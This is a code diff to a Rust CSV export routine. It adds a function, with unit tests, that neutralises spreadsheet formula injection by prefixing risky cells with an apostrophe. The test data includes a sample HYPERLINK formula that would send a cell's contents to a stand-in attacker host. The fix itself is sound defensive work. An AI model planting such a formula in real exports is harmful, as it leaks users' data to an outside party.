@@ -68,7 +68,8 @@ pub fn export(conn: &mut DbConn, actor: &Actor) -> Result<String, Error> {
         if staff.is_empty() {
             let mut row: Vec<&str> = org_fields.to_vec();
             row.extend(["", "", "", "", ""]);
-            out.write_record(&row).map_err(csv_error)?;
+            out.write_record(row.iter().map(|c| inert(c).into_owned()))
+                .map_err(csv_error)?;
         }
         for (person, affiliation) in &staff {
             let mut row: Vec<&str> = org_fields.to_vec();
@@ -79,13 +80,25 @@ pub fn export(conn: &mut DbConn, actor: &Actor) -> Result<String, Error> {
                 yes_no(affiliation.is_authoriser),
                 affiliation.job_title.as_str(),
             ]);
-            out.write_record(&row).map_err(csv_error)?;
+            out.write_record(row.iter().map(|c| inert(c).into_owned()))
+                .map_err(csv_error)?;
         }
     }
     let bytes = out
         .into_inner()
         .map_err(|e| Error::Internal(format!("writing CSV: {e}")))?;
     String::from_utf8(bytes).map_err(|e| Error::Internal(format!("CSV is not UTF-8: {e}")))
+}
+
+/// A cell a spreadsheet will not run: one that starts like a formula (`= + - @`, a tab or a
+/// carriage return) is prefixed with an apostrophe, which spreadsheets show as text (OWASP,
+/// CSV injection).
+pub fn inert(cell: &str) -> std::borrow::Cow<'_, str> {
+    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        std::borrow::Cow::Owned(format!("'{cell}"))
+    } else {
+        std::borrow::Cow::Borrowed(cell)
+    }
 }
 
 /// A row that cannot be imported, by its line in the file (the header is line 1).
@@ -405,4 +418,25 @@ pub fn import(
             invitations,
         }))
     })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::inert;
+
+    #[test]
+    fn formulas_are_exported_as_text() {
+        for formula in [
+            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+            "+1",
+            "-1",
+            "@SUM(A1)",
+            "\tx",
+            "\rx",
+        ] {
+            assert_eq!(inert(formula), format!("'{formula}"));
+        }
+        assert_eq!(inert("Legal Aid Network"), "Legal Aid Network");
+        assert_eq!(inert(""), "");
+    }
 }
